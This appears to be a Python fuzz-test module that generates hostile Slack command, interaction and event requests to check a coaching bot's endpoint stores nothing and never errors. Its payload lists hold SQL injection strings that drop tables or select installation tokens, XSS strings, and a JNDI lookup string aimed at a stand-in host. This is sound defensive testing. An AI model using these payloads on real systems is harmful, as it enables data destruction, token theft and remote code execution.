"""Hostile requests, generated: what an attacker (or a very broken client) sends to a signed Slack endpoint.

Every strategy yields a `Hostile`: a request body and whether it is malformed, meaning it must store nothing in
the ledger (a wrong type where Slack sends a string, a kind or subcommand that does not exist). The rest are
well formed but nasty (huge, unicode, control characters, markup, SQL injection, mentions): they may be
counted, if they say something countable, and they must still never get a 5xx.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

from hypothesis import strategies as st

from bot.slack.blocks.home import OPEN_LINK_ACTION
from bot.slack.blocks.ledger import (
    KIND_ACTION,
    KIND_BLOCK,
    LOG_MODAL_CALLBACK_ID,
    NOTE_ACTION,
    NOTE_BLOCK,
    OPT_OUT_CANCEL_ACTION,
    URL_ACTION,
    URL_BLOCK,
)
from bot.slack.blocks.reminders import SNOOZE_NUDGES_ACTION, STOP_NUDGES_ACTION
from tests.slack_requests import API_APP_ID
from tests.slack_stub import TEAM_ID
from tests.wiring.test_coach_fuzz import MALFORMED, SUBCOMMAND_WORDS

FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
ANA = "U0ANA00001"
HUGE_UNCLOSED_LINKS = 20_000
RESPONSE_BASE = "http://slack.invalid"  # where response_url points: `Hostile.aimed_at` puts the stub's address there


@dataclass(frozen=True)
class Hostile:
    """One request body and whether it is malformed (must store nothing in the ledger)."""

    body: bytes
    content_type: str
    malformed: bool
    what: str

    def aimed_at(self, stub_base: str) -> bytes:
        """The body with its response_url pointing at the Web API stub (both encodings give the same bytes)."""
        return self.body.replace(quote(RESPONSE_BASE, safe="").encode(), quote(stub_base, safe="").encode())

    def __repr__(self) -> str:  # hypothesis prints the failing example: the body says it best
        return f"Hostile({self.what}, malformed={self.malformed}, body={self.body[:600]!r})"


SQL_INJECTION = [
    "'; DROP TABLE activities; --",
    "' OR '1'='1",
    "1; DELETE FROM members WHERE '1'='1",
    "\\'; SELECT pg_sleep(10); --",
    "%' UNION SELECT token FROM installations --",
    "'); INSERT INTO activities VALUES (1); --",
]
MARKUP = [
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U0ANA00001>",
    "<@U0BOT0001|more_social>",
    "<#C0SOCIAL01|social>",
    "<!subteam^S0DESIGN1|@design>",
    "<https://x.com|evil>",
    "<https://x.com/a|<b>>",
    "<javascript:alert(1)|click>",
    "<script>alert(1)</script>",
    "*bold* _it_ ~s~ `code` ```block```",
    "&lt;&amp;&gt;",
    "<<<>>>||||",
    "<https://" * 40,
    "{{7*7}} ${jndi:ldap://x.example/a} %s%s%n",
]
_controls = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=31), min_size=1, max_size=20)
_unicode = st.text(
    alphabet=st.characters(exclude_categories=("Cs",)),  # any code point a JSON string can carry
    max_size=60,
)
_special = st.sampled_from(
    ["\u202e", "\u200b", "\ufeff", "\u0000", "𝕏", "👩‍👩‍👧‍👦", "ﷺ", "\ud7ff", "Ω" * 3, "\r\n\r\n"]
)
_piece = st.one_of(_unicode, _controls, _special, st.sampled_from(SQL_INJECTION), st.sampled_from(MARKUP))
_huge = st.one_of(
    st.builds(
        lambda piece, times: piece * times, st.sampled_from(["a", "é😀", "<@U1>", "x "]), st.integers(2_000, 20_000)
    ),
    # Unclosed links, which a quadratic link pattern took seconds over.
    st.integers(1, HUGE_UNCLOSED_LINKS).map(lambda times: "<https://" * times),
)
HOSTILE_TEXT = st.one_of(
    st.lists(_piece, max_size=6).map("".join),
    _huge,
    st.lists(_piece, min_size=1, max_size=3).map(" ".join),
)
WRONG_TYPES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.lists(st.one_of(st.integers(), st.text(max_size=5)), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)
ANY_VALUE = st.one_of(HOSTILE_TEXT, WRONG_TYPES)


def _not_a_subcommand(text: str) -> bool:
    words = text.split()
    return not words or not any(known.startswith(words[0].casefold()) for known in SUBCOMMAND_WORDS)


# -- slash commands ---------------------------------------------------------------------------------


def _command(text: str, fields: dict[str, str], n: int) -> bytes:
    form = {
        "token": "verification-token-unused",
        "team_id": TEAM_ID,
        "team_domain": "acme-social",
        "channel_id": "C0SOCIAL01",
        "channel_name": "social",
        "user_id": ANA,
        "user_name": "ana",
        "command": "/coach",
        "text": text,
        "api_app_id": API_APP_ID,
        "response_url": f"{RESPONSE_BASE}/response/{n}",
        "trigger_id": f"{n}.4744562912.803a0bc887a14d10d2c447fce8b6703c",
        **fields,
    }
    return urlencode(form).encode()


_command_fields = st.dictionaries(
    st.sampled_from(["user_id", "channel_id", "team_id", "user_name", "channel_name", "trigger_id"]),
    HOSTILE_TEXT,
    max_size=2,
)


@st.composite
def commands(draw: st.DrawFn) -> Hostile:
    """A `/coach` text: malformed (unknown subcommand, bad link, too long) or a real subcommand with a nasty tail."""
    choice = draw(st.integers(0, 3))
    n = draw(st.integers(1, 10**6))
    if choice == 0:
        text = draw(MALFORMED)
        return Hostile(_command(text, {}, n), FORM, True, "malformed /coach text")
    if choice == 1:
        text = draw(HOSTILE_TEXT.filter(_not_a_subcommand))
        return Hostile(_command(text, draw(_command_fields), n), FORM, True, "/coach noise")
    word = draw(st.sampled_from(sorted(SUBCOMMAND_WORDS)))
    text = f"{word} {draw(HOSTILE_TEXT)}"
    return Hostile(_command(text, draw(_command_fields), n), FORM, False, "/coach subcommand with a hostile tail")


# -- interactivity ----------------------------------------------------------------------------------

ACTION_IDS = [SNOOZE_NUDGES_ACTION, STOP_NUDGES_ACTION, OPT_OUT_CANCEL_ACTION, OPEN_LINK_ACTION, "home_tab_unknown"]


def _interaction(payload: Any) -> bytes:
    return urlencode({"payload": json.dumps(payload)}).encode()


@st.composite
def block_actions(draw: st.DrawFn) -> Hostile:
    action = {
        "action_id": draw(st.sampled_from(ACTION_IDS)),
        "block_id": draw(st.one_of(st.just("nudge"), ANY_VALUE)),
        "type": "button",
        "value": draw(ANY_VALUE),
        "action_ts": "1763900000.000100",
    }
    payload: dict[str, Any] = {
        "type": "block_actions",
        "team": draw(st.one_of(st.just({"id": TEAM_ID, "domain": "acme-social"}), ANY_VALUE)),
        "user": draw(
            st.one_of(st.just({"id": ANA, "team_id": TEAM_ID}), st.builds(lambda v: {"id": v}, ANY_VALUE), ANY_VALUE)
        ),
        "api_app_id": API_APP_ID,
        "container": draw(
            st.one_of(st.just({"type": "message", "channel_id": "D0ANA", "message_ts": "1.2"}), ANY_VALUE)
        ),
        "channel": draw(st.one_of(st.just({"id": "D0ANA"}), ANY_VALUE)),
        "trigger_id": "3.4744562912.803a0bc887a14d10d2c447fce8b6703c",
        "response_url": f"{RESPONSE_BASE}/response/1",
        "actions": draw(st.one_of(st.just([action]), st.just(action), ANY_VALUE)),
    }
    drop = draw(st.sets(st.sampled_from(sorted(payload)), max_size=2))
    return Hostile(_interaction({k: v for k, v in payload.items() if k not in drop}), FORM, True, "block_actions")


@st.composite
def view_submissions(draw: st.DrawFn) -> Hostile:
    """The log form, submitted with a kind that does not exist (or no kind at all), and anything in the rest."""
    kind = draw(ANY_VALUE)
    selected = draw(st.one_of(st.just({"value": kind, "text": {"type": "plain_text", "text": "x"}}), ANY_VALUE))
    values = {
        KIND_BLOCK: {KIND_ACTION: {"type": "static_select", "selected_option": selected}},
        URL_BLOCK: {URL_ACTION: {"type": "plain_text_input", "value": draw(ANY_VALUE)}},
        NOTE_BLOCK: {NOTE_ACTION: {"type": "plain_text_input", "value": draw(ANY_VALUE)}},
    }
    view: dict[str, Any] = {
        "id": "V0MODAL01",
        "team_id": TEAM_ID,
        "type": "modal",
        "callback_id": LOG_MODAL_CALLBACK_ID,
        "private_metadata": draw(st.one_of(st.just('{"channel_id": "C0SOCIAL01"}'), ANY_VALUE)),
        "state": draw(st.one_of(st.just({"values": values}), st.builds(lambda v: {"values": v}, ANY_VALUE), ANY_VALUE)),
        "hash": "1763900000.3wRYuk3R",
        "app_id": API_APP_ID,
    }
    payload = {
        "type": "view_submission",
        "team": {"id": TEAM_ID, "domain": "acme-social"},
        "user": draw(st.one_of(st.just({"id": ANA, "team_id": TEAM_ID}), ANY_VALUE)),
        "api_app_id": API_APP_ID,
        "view": view,
        "response_urls": [],
    }
    return Hostile(_interaction(payload), FORM, True, "view_submission with a kind that does not exist")


def interactions() -> st.SearchStrategy[Hostile]:
    return st.one_of(
        block_actions(),
        view_submissions(),
        st.builds(
            lambda value: Hostile(urlencode({"payload": value}).encode(), FORM, True, "payload that is not JSON"),
            HOSTILE_TEXT,
        ),
    )


# -- events -----------------------------------------------------------------------------------------

EVENT_TYPES = ["message", "reaction_added", "reaction_removed", "member_joined_channel", "app_home_opened"]
SUBTYPES = [None, "message_changed", "message_deleted", "thread_broadcast", "bot_message", "channel_join", "file_share"]


def _envelope(event: Any, event_id: Any = "Ev0HOSTILE1", team_id: Any = TEAM_ID) -> dict[str, Any]:
    return {
        "token": "verification-token-unused",
        "team_id": team_id,
        "api_app_id": API_APP_ID,
        "event": event,
        "type": "event_callback",
        "event_id": event_id,
        "event_time": 1763900000,
        "authorizations": [{"team_id": TEAM_ID, "user_id": "U0BOT0001", "is_bot": True}],
    }


_event_id = st.from_regex(r"Ev0H[A-Z0-9]{8}", fullmatch=True)


@st.composite
def malformed_events(draw: st.DrawFn) -> Hostile:
    """An event whose fields have the wrong types (or are missing): nothing in it can be counted."""
    event: dict[str, Any] = {
        "type": draw(st.sampled_from(EVENT_TYPES)),
        "user": ANA,
        "text": "New on the blog <https://blog.example.com/a|a>",
        "ts": "1763900000.000100",
        "channel": "C0SOCIAL01",
        "channel_type": "channel",
        "reaction": "heart",
        "item": {"type": "message", "channel": "C0SOCIAL01", "ts": "1763800000.000100"},
        "item_user": "U0BEN00001",
        "event_ts": "1763900000.000100",
    }
    subtype = draw(st.sampled_from(SUBTYPES))
    if subtype:
        event["subtype"] = subtype
        event["message"] = dict(event)
    # The counting fields all broken, so that no version of this event says who shared what, where, when.
    for field in ("user", "ts", "channel", "item"):
        event[field] = draw(WRONG_TYPES)
    if "message" in event:
        event["message"] = draw(st.one_of(WRONG_TYPES, st.just({**event, "subtype": None})))
    others = sorted(set(event) - {"user", "ts", "channel", "item", "message"})
    for field in draw(st.sets(st.sampled_from(others), max_size=3)):
        event[field] = draw(ANY_VALUE)
    body = _envelope(event, draw(st.one_of(_event_id, WRONG_TYPES)), draw(st.one_of(st.just(TEAM_ID), ANY_VALUE)))
    return Hostile(json.dumps(body).encode(), JSON, True, "event with wrong types")


@st.composite
def nasty_events(draw: st.DrawFn) -> Hostile:
    """A well-typed message whose text is hostile: huge, unicode, control characters, markup, injections."""
    event = {
        "type": "message",
        "user": draw(st.sampled_from([ANA, "U0BEN00001", "U0BOT0001", "W0ENTERPR1"])),
        "text": draw(HOSTILE_TEXT),
        "ts": f"{draw(st.integers(1_700_000_000, 1_800_000_000))}.{draw(st.integers(0, 999_999)):06d}",
        "channel": draw(st.sampled_from(["C0SOCIAL01", "G0PRIVATE1", "D0ANA00001"])),
        "channel_type": "channel",
    }
    return Hostile(json.dumps(_envelope(event, draw(_event_id))).encode(), JSON, False, "message with hostile text")


_not_json = st.one_of(HOSTILE_TEXT, st.sampled_from(["{", "[", "null", "1", '"x"', "[]", "{}", '{"type": 5}']))


def events() -> st.SearchStrategy[Hostile]:
    return st.one_of(
        malformed_events(),
        nasty_events(),
        st.builds(lambda text: Hostile(text.encode(), JSON, True, "event body that is not an envelope"), _not_json),
        st.builds(
            lambda value: Hostile(json.dumps(_envelope(value)).encode(), JSON, True, "event that is not an object"),
            WRONG_TYPES,
        ),
    )
